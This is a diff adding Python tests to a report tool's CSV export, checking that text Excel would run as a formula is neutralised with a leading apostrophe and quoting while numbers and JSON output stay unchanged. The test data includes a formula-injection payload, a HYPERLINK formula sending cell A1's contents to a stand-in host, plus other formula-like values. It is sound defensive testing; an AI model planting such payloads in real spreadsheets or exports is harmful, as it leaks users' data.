@@ -491,3 +491,55 @@ def test_a_worker_that_dies_does_not_lose_projects(
     assert [r.folder for r in results] == [t.label for t in eight]
     assert all(isinstance(r, ProjectFigures) for r in results)
     assert sorted(done) == sorted(t.label for t in eight)
+
+
+# --- the CSV opened in Excel: no formula from a project's text (#15) ------------------------
+
+FORMULA = '=HYPERLINK("http://esempio.invalid/?"&A1;"clic")'
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
+
+
+def test_csv_text_that_excel_would_run_as_a_formula_is_neutralised() -> None:
+    from pwkit.report.compare import Comparison
+    from pwkit.report.tabular import to_csv
+
+    hostile = _figures(
+        FORMULA, folder="-2+3", sigla="+1", regione="@SUM(A1)", strumento="\tcmd",
+        mentor="\r=1", versione="1.0", costi_totali=Decimal("-1234.5"), fte=Decimal("-2"),
+        costo_personale_annuo=Decimal("37500"),
+    )  # fmt: skip
+    text = to_csv(Comparison.of([hostile, _figures("Valdoria")]))
+    rows = _csv_rows(text)
+    row = next(r for r in rows if r["cartella"] != "valdoria")
+    assert row["provincia"] == "'" + FORMULA
+    assert row["cartella"] == "'-2+3"
+    assert row["sigla"] == "'+1"
+    assert row["regione"] == "'@SUM(A1)"
+    assert row["strumento_giuridico"] == "'\tcmd"
+    assert row["provincia_mentor"] == "'\r=1"
+    assert row["versione"] == "1.0"
+    # Numbers stay numbers: unquoted, negative, decimal comma.
+    line = text.split("\r\n")[1 + rows.index(row)]
+    assert ";-1234,50;" in line and ";-2;" in line and ";37500;" in line
+    assert row["costi_totali"] == "-1234,50"
+    # Neutralised cells are quoted, so no separator of any locale can split them.
+    assert '"\'@SUM(A1)"' in line and '"\'+1"' in line
+    assert next(r for r in rows if r["cartella"] == "valdoria")["provincia"] == "Valdoria"
+
+
+def test_report_of_a_provincia_named_like_a_formula(cli: Cli, tmp_path: Path) -> None:
+    root = tmp_path / "valdoria"
+    shutil.copytree(EXAMPLES / "provincia-di-valdoria", root)
+    progetto = root / "progetto.yaml"
+    text = progetto.read_text(encoding="utf-8")
+    quoted = FORMULA.replace('"', '\\"')
+    progetto.write_text(text.replace("  nome: Valdoria", f'  nome: "{quoted}"', 1), "utf-8")
+    cli("report", root, "-o", tmp_path / "r.csv")
+    cli("report", root, "-o", tmp_path / "r.json")
+    [row] = _csv_rows((tmp_path / "r.csv").read_text(encoding="utf-8"))
+    assert row["provincia"] == "'" + FORMULA
+    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
+    assert data["progetti"][0]["provincia"] == FORMULA  # JSON is data, not a spreadsheet
